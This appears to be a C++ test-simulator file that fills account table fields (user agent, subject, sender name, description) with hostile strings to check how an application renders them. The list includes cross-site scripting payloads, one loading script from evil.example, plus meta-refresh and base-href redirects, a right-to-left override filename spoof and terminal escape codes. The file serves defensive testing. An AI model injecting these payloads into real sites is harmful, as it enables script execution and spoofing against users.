#include "tests/simulator/hostile.hpp"

#include <cstdint>
#include <limits>
#include <optional>

namespace simulator {
namespace {

std::vector<std::int64_t> ids_of(const Table& table) {
    Selection selection;
    selection.reading = Reading::instant;
    selection.now = mirror::Instant::max();
    std::vector<std::int64_t> ids;
    table.read(selection, 0, std::numeric_limits<std::uint64_t>::max(),
               [&](const RowView& row) { ids.push_back(row.id); });
    return ids;
}

const std::string& text_for(std::int64_t id) {
    const std::vector<std::string>& all = hostile_texts();
    return all[static_cast<std::uint64_t>(id) % all.size()];
}

void replace(std::optional<std::string>& text, std::int64_t id) {
    if (text) {
        text = text_for(id);
    }
}

}  // namespace

const std::vector<std::string>& hostile_texts() {
    constexpr std::size_t long_word = 500;
    static const std::vector<std::string> all{
        "<script>document.title='taken'</script>",
        "</title></style></svg><script src=//evil.example/x.js></script>",
        "<img src=https://evil.example/pixel onerror=alert(1)>",
        "\"><svg onload=alert(1)><!--",
        "' onmouseover='alert(1)' style='position:fixed;inset:0' x='",
        "&lt;b&gt;&amp;#x3c;script&#x3e;",
        "<base href=https://evil.example/><meta http-equiv=refresh content=0>",
        std::string(long_word, 'W'),
        "https://evil.example/?q=" + std::string(long_word, 'x'),
        "\xd7\xa9\xd7\x9c\xd7\x95\xd7\x9d \xd7\xa2\xd7\x95\xd7\x9c\xd7\x9d",         // Hebrew
        "\xd9\x85\xd8\xb1\xd8\xad\xd8\xa8\xd8\xa7 100 %",                            // Arabic
        "\xe2\x80\xaegnp.exe\xe2\x81\xa6 turned\xe2\x80\x8f",                        // overrides
        "\xf0\x9f\x91\xa9\xe2\x80\x8d\xf0\x9f\x91\xa9\xe2\x80\x8d\xf0\x9f\x91\xa7 "  // a family
        "\xf0\x9f\x8f\xb4\xf0\x9f\x87\xb3\xf0\x9f\x87\xb1 \xf0\x9f\x91\x8d\xf0\x9f\x8f\xbe",
        "Z\xcc\x8d\xcc\x8e\xcc\x84\xcd\x92\xcc\xb4"
        "a\xcc\x9b\xcc\x95\xcd\x81lgo",                                              // stacked
        "\xe9\x95\xb7\xe3\x81\x84\xe4\xbb\xb6\xe5\x90\x8d\xe3\x81\xae\xe3\x83\xa1",  // no spaces
        "a\nline\r\nand\tanother\x1b[31m red\x07",
        "",
        "   ",
    };
    return all;
}

void make_hostile(Account& account) {
    for (const StreamId stream : all_streams) {
        Table& table = account.of(stream);
        for (const std::int64_t id : ids_of(table)) {
            table.change(id, [id](Row& row) {
                replace(row.useragent, id);
                replace(row.device, id / 2);
                replace(row.subject, id);
                replace(row.from_name, id);
                replace(row.description, id);
            });
        }
    }
}

}  // namespace simulator
